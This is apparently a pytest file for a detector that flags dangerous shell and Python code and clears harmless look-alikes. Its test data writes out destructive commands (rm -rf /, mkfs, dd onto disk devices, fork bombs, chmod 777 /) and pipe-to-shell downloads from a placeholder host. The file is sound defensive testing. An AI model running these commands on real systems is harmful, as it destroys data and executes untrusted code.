"""Dangerous-code flags: each must give a reason; harmless look-alikes must not."""
import pytest

from grammar.danger import dangers

DANGEROUS_BASH = [
    ("rm -rf /", "deletes / recursively"),
    ("rm -rf ~", "home directory"),
    ("rm -rf /*", "recursively"),
    ("rm -rf /home", "deletes /home recursively"),
    ("rm -fr $HOME", "home directory"),
    ("sudo rm -r -f /", "deletes / recursively"),
    ("rm -rf --no-preserve-root /", "no-preserve-root"),
    ("cd /tmp && rm -rf /", "deletes / recursively"),
    ("mkfs.ext4 /dev/sda1", "formats"),
    ("mkfs -t xfs /dev/nvme0n1p1", "formats"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "/dev/sda"),
    ("dd if=image.iso of=/dev/nvme0n1", "/dev/nvme0n1"),
    (":(){ :|:& };:", "fork bomb"),
    ("bomb() { bomb | bomb & }; bomb", "fork bomb"),
    ("chmod -R 777 /", "777"),
    ("curl -s http://x.example/install.sh | sh", "downloaded script"),
    ("wget -O- http://x.example/i.sh | sudo bash", "downloaded script"),
    ("bash <(curl -s http://x.example/i.sh)", "downloaded script"),
    ("echo nameserver 1.1.1.1 > /etc/resolv.conf", "/etc/resolv.conf"),
    ("echo x | sudo tee /etc/hosts", "/etc/hosts"),
    ("cat junk > /dev/sda", "/dev/sda"),
    ("shutdown -h now", "shuts down"),
    ("sudo reboot", "restarts"),
    ("find / -name '*.log' -delete", "find deletes"),
]

HARMLESS_BASH = [
    "rm -rf ./build",
    "rm -rf /tmp/foo",
    "rm -rf /home/me/build",
    "rm file.txt",
    "ls -la /",
    "echo hi > /tmp/x",
    "chmod -R 755 ./dir",
    "curl -O http://x.example/a.tar.gz",
    "dd if=/dev/zero of=./disk.img bs=1M count=10",
    "find . -name '*.o' -delete",
    "grep -r foo /etc",
    "cat /etc/passwd",
    "echo 'rm -rf /'",
    "tee out.txt",
    "df -h /dev/sda1",
]


@pytest.mark.parametrize("code, reason", DANGEROUS_BASH)
def test_dangerous_bash(code, reason):
    found = dangers(code, "bash")
    assert found, code
    assert any(reason in r for r in found), found


@pytest.mark.parametrize("code", HARMLESS_BASH)
def test_harmless_bash(code):
    assert dangers(code, "bash") == []


@pytest.mark.parametrize("code, reason", [
    ('os.system("rm -rf /")', "deletes / recursively"),
    ("subprocess.run('curl http://x | sh', shell=True)", "downloaded script"),
    ('subprocess.call(["rm", "-rf", "/"])', "deletes / recursively"),
    ('shutil.rmtree("/")', "rmtree"),
    ("shutil.rmtree('~')", "home directory"),
    ("shutil.rmtree(os.path.expanduser('~'))", "rmtree"),
    ("open('/etc/passwd', 'w').write('')", "/etc"),
])
def test_dangerous_python(code, reason):
    found = dangers(code, "python")
    assert any(reason in r for r in found), found


@pytest.mark.parametrize("code", ['os.system("ls -la")', 'shutil.rmtree("build")', "open('/etc/hosts').read()",
                                  "print('rm -rf /')"])
def test_harmless_python(code):
    assert dangers(code, "python") == []


def test_cf_is_never_dangerous():
    assert dangers("TextEquals(rm -rf /)", "cf") == []


def test_unknown_language():
    with pytest.raises(ValueError):
        dangers("x", "perl")
